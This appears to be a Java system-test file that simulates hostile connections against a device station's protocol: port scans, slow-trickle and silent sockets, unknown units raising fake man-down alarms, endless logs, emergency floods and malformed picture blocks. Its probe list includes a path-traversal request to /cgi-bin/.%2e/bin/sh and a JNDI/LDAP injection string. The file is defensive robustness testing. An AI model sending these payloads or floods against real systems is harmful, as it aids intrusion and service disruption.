package identicom.systemtests.hostile;

import identicom.simulator.raw.RawUnit;
import identicom.systemtests.hostile.Attack.Line;
import identicom.wire.codec.MessageEncoder;
import identicom.wire.event.StandardEvent;
import identicom.wire.message.EventEntry;
import identicom.wire.message.EventLog;
import identicom.wire.message.EventLogDeleted;
import identicom.wire.message.FromUnit;
import identicom.wire.message.Identification;
import identicom.wire.message.ListPictures;
import identicom.wire.message.Octets;
import identicom.wire.message.PictureBlock;
import identicom.wire.message.PictureEntry;
import identicom.wire.message.PictureList;
import identicom.wire.message.ReadEventLog;
import identicom.wire.message.ReadPicture;
import identicom.wire.message.ToUnit;
import java.io.IOException;
import java.io.InputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Optional;
import java.util.function.IntFunction;

/** What is said on a hostile connection. */
final class Lines {
    private static final Duration PATIENCE = Duration.ofSeconds(60);
    private static final long SLOW_MS = 10_000;
    private static final int REMAINING = 0xffff;
    private static final long NOW = 1_790_000_000L;

    /** First bytes of what else speaks on a port of the internet; the station must find each wrong. */
    private static final List<byte[]> OTHERS = List.of(
            ascii("GET / HTTP/1.1\r\nHost: station\r\n\r\n"),
            ascii("POST /cgi-bin/.%2e/bin/sh HTTP/1.1\r\n\r\n${jndi:ldap://x/a}"),
            HexFormat.of().parseHex("16030100a5010000a10303" + "5a".repeat(160)),
            HexFormat.of().parseHex("4a524d4900024b"),
            ascii("SSH-2.0-Go\r\n"),
            HexFormat.of().parseHex("0300002f2ae00000000000"),
            HexFormat.of().parseHex("ff534d4272000000"),
            ascii("QUIT\r\n\r\n"));

    private Lines() {}

    /** Another protocol's first bytes; then it waits for what the station does about it. */
    static void otherProtocol(Socket socket, int number) throws IOException {
        socket.getOutputStream().write(OTHERS.get(number % OTHERS.size()));
        untilEnd(socket);
    }

    /** A port scan: connects and is gone. */
    static void knock(Socket socket, int number) {}

    /** Says nothing. */
    static void silent(Socket socket, int number) throws IOException {
        untilEnd(socket);
    }

    /** An identification, one byte every 10 s. */
    static void trickle(Socket socket, int number) throws IOException, InterruptedException {
        for (byte one : MessageEncoder.frame(new Identification("GOOD-1", "4.2.1"))) {
            socket.getOutputStream().write(one);
            Thread.sleep(SLOW_MS);
        }
    }

    /** Somebody whom nobody knows, who is down. */
    static Line stranger(IntFunction<String> serials) {
        return (socket, number) -> {
            RawUnit unit = RawUnit.over(socket);
            unit.send(
                    new Identification(serials.apply(number), "4.2.1"),
                    new EventLog(0, true, 1, List.of(entry(1, StandardEvent.MAN_DOWN))));
            unit.untilEnd(PATIENCE);
        };
    }

    /** A known unit that identifies itself and says nothing more. */
    static Line speechless(IntFunction<String> serials) {
        return (socket, number) -> {
            RawUnit unit = RawUnit.over(socket);
            unit.send(new Identification(serials.apply(number), "4.2.1"));
            unit.untilEnd(PATIENCE);
        };
    }

    /** A known unit that hangs up as soon as it is asked something. */
    static Line hangingUp(IntFunction<String> serials) {
        return (socket, number) -> {
            RawUnit unit = RawUnit.over(socket);
            unit.send(new Identification(serials.apply(number), "4.2.1"));
            unit.next(PATIENCE);
        };
    }

    /** A known unit whose log has no end: 51 entries an answer, and as many left as can be said. */
    static Line endlessLog(IntFunction<String> serials) {
        return (socket, number) -> answering(socket, serials.apply(number), request -> switch (request) {
            case ReadEventLog(var after) ->
                new EventLog(REMAINING, false, 7, entries(after, StandardEvent.STATUS_CHECK));
            default -> EndlessPictures.NONE;
        });
    }

    /** A known unit that pushes frames full of man-downs as fast as its line takes them. */
    static Line endlessEmergencies(IntFunction<String> serials) {
        return (socket, number) -> {
            socket.getOutputStream().write(MessageEncoder.frame(new Identification(serials.apply(number), "4.2.1")));
            for (long after = 0; ; after += EventLog.MAX_ENTRIES) {
                EventLog push =
                        new EventLog(0, true, number & EventLog.MAX_LOG_ID, entries(after, StandardEvent.MAN_DOWN));
                socket.getOutputStream().write(MessageEncoder.frame(push));
            }
        };
    }

    /** A known unit with an empty log and pictures that are not what its list says. */
    static Line pictures(IntFunction<String> serials) {
        return (socket, number) -> answering(socket, serials.apply(number), new EndlessPictures(number));
    }

    /** Sends these bytes and waits for the end. */
    static Line bytes(IntFunction<byte[]> each) {
        return (socket, number) -> {
            socket.getOutputStream().write(each.apply(number));
            untilEnd(socket);
        };
    }

    /** How a unit answers; never without an answer. */
    @FunctionalInterface
    interface Answers {
        FromUnit to(ToUnit request);
    }

    private static void answering(Socket socket, String serial, Answers answers) throws Exception {
        RawUnit unit = RawUnit.over(socket);
        unit.send(new Identification(serial, "4.2.1"));
        for (Optional<ToUnit> request = unit.next(PATIENCE); request.isPresent(); request = unit.next(PATIENCE)) {
            unit.send(answers.to(request.get()));
        }
    }

    /** Pictures too large, blocks of another picture, of another place, too long, and pictures without end. */
    private record EndlessPictures(int number) implements Answers {
        static final PictureList NONE = new PictureList(List.of());
        private static final int KINDS = 5;
        private static final long CLAIMED = 1 << 20;

        @Override
        public FromUnit to(ToUnit request) {
            return switch (request) {
                case ReadEventLog read -> new EventLog(0, false, 7, List.of());
                case ListPictures list -> listed();
                case ReadPicture read -> block(read);
                default -> new EventLogDeleted(0);
            };
        }

        private FromUnit listed() {
            long size = number % KINDS == 0 ? 0xffff_ffffL : CLAIMED;
            List<PictureEntry> all = new ArrayList<>();
            for (int picture = 1; picture <= PictureList.MAX_PICTURES; picture++) {
                all.add(new PictureEntry(picture, size, NOW + number, number));
            }
            return new PictureList(all);
        }

        private FromUnit block(ReadPicture read) {
            Octets full = Octets.of(new byte[read.length()]);
            return switch (number % KINDS) {
                case 1 -> new PictureBlock(read.picture(), CLAIMED - 1, full);
                case 2 -> new PictureBlock(read.picture() + 1, read.offset(), full);
                case 3 ->
                    new PictureBlock(
                            read.picture(), Math.max(0, read.offset() - 1), full); // overlaps, from its second block on
                default -> new PictureBlock(read.picture(), read.offset(), full);
            };
        }
    }

    private static List<EventEntry> entries(long after, StandardEvent type) {
        List<EventEntry> entries = new ArrayList<>();
        for (int i = 1; i <= EventLog.MAX_ENTRIES; i++) {
            entries.add(entry(after + i, type));
        }
        return entries;
    }

    private static EventEntry entry(long sequence, StandardEvent type) {
        return EventEntry.of(sequence, NOW, type.code(), 0, 0, 0, 80, -70);
    }

    private static void untilEnd(Socket socket) throws IOException {
        InputStream in = socket.getInputStream();
        byte[] some = new byte[256];
        while (in.read(some) >= 0) {
            // what the station says is not of interest
        }
    }

    private static byte[] ascii(String text) {
        return text.getBytes(StandardCharsets.US_ASCII);
    }
}
